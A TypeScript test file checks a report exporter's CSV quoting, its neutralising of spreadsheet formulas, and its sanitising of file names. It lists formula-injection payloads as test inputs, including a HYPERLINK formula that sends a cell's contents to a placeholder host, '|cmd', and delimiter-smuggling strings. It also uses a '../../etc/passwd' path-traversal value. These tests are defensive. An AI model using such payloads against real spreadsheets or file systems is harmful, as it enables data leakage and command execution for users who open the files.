import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../src/facilitator/report/csv';
import { fileName } from '../../src/facilitator/report/download';

/** RFC 4180, read back: enough to see that nothing is lost. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  const body = text.replace(/^\ufeff/, '');
  while (cell.lastIndex < body.length) {
    const [, quoted, plain, after] = cell.exec(body) ?? [];
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (after === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('comma-separated values', () => {
  it('quotes every cell', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "no"')).toBe('"say ""no"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(7.2)).toBe('"7.2"');
    expect(csvCell(-1)).toBe('"-1"');
  });

  it.each([
    '=HYPERLINK("https://example.org?"&A1)',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '"=1+1',
    '|cmd',
    '%0A=1+1',
    "'=1+1",
    '＝1+1',
    '＋1',
    '＠SUM(A1)',
    '-1',
  ])('makes the formula %j a text', (evil) => {
    const [[cell = ''] = []] = readCsv(csvText([[evil]]));
    // The apostrophe stands right before what would begin the formula, or the quotes and spaces before that.
    expect(cell).toMatch(/^[\t\r]*'/);
    expect(cell).toHaveLength(evil.length + 1);
  });

  it.each([
    [',', /,/],
    [';', /;/],
    ['a tab', /\t/],
  ])(
    'has no cell that is a formula where a program splits at %s, whatever the quotes say',
    (_, at) => {
      const evil = [
        'ok;=1+1;',
        'ok\t=1+1',
        'a\n=1+1',
        'a\r\n+1',
        'x; "=1',
        "y;'＝2",
        '=1;=2',
        '- a; =1',
        'ok,=1+1',
        'ok", \'+1',
        ';@x',
      ];
      for (const line of csvText(evil.map((text) => ['q', text])).split(/[\r\n]+/)) {
        for (const cell of line.split(at)) {
          expect(cell.replace(/^[\ufeff\s"]*/, '')).not.toMatch(/^[=+\-@＝＋－＠]/);
        }
      }
    },
  );

  it('does not disfigure what begins with a dash and goes on in words', () => {
    const [[cell = ''] = []] = readCsv(csvText([['- good idea']]));
    expect(cell.replace('\u2060', '')).toBe('- good idea');
    expect(cell).not.toMatch(/^[-']/);
  });

  it.each(['good, -5 and +3', 'well,@home'])('shows no mark in the prose of %j', (prose) => {
    const [[cell = ''] = []] = readCsv(csvText([[prose]]));
    expect(cell).not.toBe(prose);
    expect(cell.replaceAll('\u2060', '')).toBe(prose);
  });

  it('can be read back, in any script', () => {
    const rows = [
      ['word', 'people'],
      ['safe-space', '4'],
      ['安心, really', '2'],
      ['مساحة "آمنة"', '1'],
      ['two\r\nlines', '1'],
    ];
    expect(readCsv(csvText(rows))).toEqual(rows);
  });

  it('begins with a byte order mark and ends every row', () => {
    expect(csvText([['a']])).toBe('\ufeff"a"\r\n');
  });
});

it('names a file after the room and the day', () => {
  expect(fileName('Listening to the ward', '2026-11-22')).toBe('listening-to-the-ward-2026-11-22');
  expect(fileName('../../etc/passwd', '2026-11-22')).toBe('etc-passwd-2026-11-22');
  expect(fileName('…', '2026-11-22')).toBe('report-2026-11-22');
  expect(fileName('Évaluation', '2026-11-22')).toBe('évaluation-2026-11-22');
  expect(fileName('हिन्दी', '2026-11-22')).toBe('हिन्दी-2026-11-22');
  expect(fileName('สวัสดี', '2026-11-22')).toBe('สวัสดี-2026-11-22');
  const long = new TextEncoder().encode(`${fileName('नी'.repeat(90), '2026-11-22')}.json`);
  expect(long.length).toBeLessThanOrEqual(255);
});
